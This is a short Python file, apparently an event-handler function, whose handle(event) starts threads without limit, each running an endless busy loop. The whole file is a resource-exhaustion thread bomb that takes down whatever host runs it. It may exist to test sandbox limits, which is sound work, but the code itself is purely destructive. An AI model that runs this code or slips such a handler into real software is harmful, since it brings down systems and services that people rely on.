import threading


def burn():
    while True:
        pass


def handle(event):
    while True:
        threading.Thread(target=burn).start()
